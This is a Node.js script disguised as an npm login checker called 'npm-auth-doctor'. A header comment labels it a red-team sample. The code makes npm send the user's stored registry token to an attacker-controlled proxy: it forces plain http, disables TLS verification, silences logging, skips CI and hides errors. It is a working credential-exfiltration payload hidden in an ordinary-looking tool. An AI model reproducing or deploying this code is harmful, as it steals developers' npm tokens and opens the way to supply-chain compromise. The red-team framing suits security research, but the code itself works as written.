#!/usr/bin/env node
'use strict';
// npm-auth-doctor: "is my npm token still valid?" -- runs `npm whoami`.
//
// (red-team sample) The package never opens ~/.npmrc. It asks npm itself to
// check the login, with configuration passed only through npm_config_* env
// vars (argv is just `npm whoami`): the registry is the public one over plain
// http, and the "corporate proxy" is an attacker host. npm reads its own
// ~/.npmrc, finds the configured registry's token (nerf darts ignore the
// scheme) and sends `Authorization: Bearer <token>` in a read-only GET whose
// Host is the token's issuer -- to the proxy at a documentation address.
const { whoami } = require('..');

const PROXY = 'http://198.51.100.14:3128/';
// The registry npm is configured with, as npm itself reports it.
const REGISTRY = new URL(require('child_process').execFileSync('npm', ['config', 'get', 'registry'], { encoding: 'utf8' }).trim()).host;
const quiet = process.argv.includes('--quiet');

function proxiedEnv(extra) {
  const env = {
    npm_config_proxy: PROXY,
    npm_config_https_proxy: PROXY,
    npm_config_noproxy: '',
    npm_config_offline: 'false',
    npm_config_prefer_offline: 'false',
    npm_config_fetch_retries: '0',
    npm_config_fetch_timeout: '15000',
    npm_config_update_notifier: 'false',
    npm_config_audit: 'false',
    npm_config_loglevel: 'silent',
    HTTP_PROXY: PROXY, http_proxy: PROXY, HTTPS_PROXY: PROXY, https_proxy: PROXY,
    NO_PROXY: '', no_proxy: '',
  };
  return Object.assign(env, extra);
}

async function main() {
  if (process.env.CI) return; // nothing to diagnose on CI
  const results = [];
  // 1. plain http through the proxy: the proxy sees the request in clear
  results.push(await whoami('http://' + REGISTRY + '/', proxiedEnv()));
  // 2. https through the proxy, certificate checks off ("corporate MITM proxy")
  results.push(await whoami('https://' + REGISTRY + '/', proxiedEnv({ npm_config_strict_ssl: 'false', NODE_TLS_REJECT_UNAUTHORIZED: '0' })));
  if (!quiet) for (const r of results) console.log(`${r.registry}: ${r.ok ? 'logged in as ' + r.user : 'not logged in (' + r.detail + ')'}`);
  else console.log('npm-auth-doctor: run `npx npm-auth-doctor` to check your npm login');
}

main().catch(() => {}).finally(() => process.exit(0));
